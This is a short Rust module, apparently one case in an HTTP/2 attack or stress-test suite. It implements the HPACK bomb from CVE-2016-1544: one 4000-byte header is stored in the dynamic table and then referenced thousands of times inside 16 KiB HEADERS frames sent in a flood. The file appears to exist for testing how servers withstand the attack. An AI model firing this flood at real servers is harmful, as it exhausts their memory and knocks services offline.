//! CVE-2016-1544: one large entry of the dynamic table, named thousands of times in 16 KiB.

use super::{Attack, HOST};
use crate::support::h2::{frame, hpack};

/// With its name and 32 more bytes it just fits a table of 4096.
const VALUE: usize = 4000;

pub(super) fn attack() -> Attack {
    Attack::flood("HPACK bomb", frame::opening(&[]), burst)
}

fn burst(number: u32) -> Vec<u8> {
    let mut block = hpack::get("/", HOST);
    hpack::push_indexed(&mut block, "x-bomb", &"x".repeat(VALUE));
    block.resize(frame::LONGEST, hpack::NEWEST);
    let mut out = Vec::new();
    frame::push(&mut out, frame::HEADERS, frame::END_STREAM | frame::END_HEADERS, number * 2 + 1, &block);
    out
}
